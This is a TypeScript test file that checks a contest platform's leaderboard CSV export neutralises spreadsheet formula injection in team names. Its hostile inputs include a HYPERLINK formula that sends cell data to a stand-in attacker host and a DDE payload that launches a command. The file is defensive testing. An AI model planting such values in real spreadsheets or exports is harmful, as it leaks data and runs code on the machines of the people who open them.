import { afterAll, describe, expect, it } from "vitest";
import { getLeaderboard, leaderboardCsv } from "../../lib/leaderboards/get-leaderboard";
import { submitResults } from "../../lib/submissions/submit-results";
import { createTeam } from "../../lib/teams/create-team";
import { createUser } from "../../lib/users/create-user";
import { createContest, resultsFor } from "../helpers/contest";
import { databaseAndStore } from "../helpers/test-world";

// Exports are opened in spreadsheets by organizers: participant text in them must never run as a formula.

describe("leaderboard CSV export", () => {
  const disposers: (() => Promise<void> | void)[] = [];
  afterAll(async () => {
    for (const dispose of disposers.reverse()) await dispose();
  });

  it("neutralises team names that a spreadsheet would run as formulas", async () => {
    const { database, store } = await databaseAndStore("pglite", disposers);
    const { competition, organizer, queries, gallery } = await createContest(database.prisma, store, { slug: "csv", queries: 8 });
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"];
    for (const [i, name] of hostile.entries()) {
      const user = await createUser(database.prisma, { email: `csv${i}@csv.test`, password: "csv password 1" });
      const team = await createTeam(database.prisma, { userId: user.id, isAdmin: false }, "csv", name);
      const bytes = new TextEncoder().encode(JSON.stringify(resultsFor(queries, gallery, [1 + i])));
      const outcome = await submitResults(database, store, { competitionId: competition.id, teamId: team.id, userId: user.id, channel: "API", bytes, fileName: null });
      expect(outcome.kind).toBe("scored");
    }
    const csv = leaderboardCsv(await getLeaderboard(database.prisma, organizer, "csv", "public"));
    const teamCells = csv
      .trim()
      .split("\n")
      .slice(1)
      .map((line) => line.split(",")[1]!.replace(/^"/, ""));
    expect(teamCells).toHaveLength(hostile.length);
    for (const cell of teamCells) expect(cell.startsWith("'"), cell).toBe(true);
  });
});
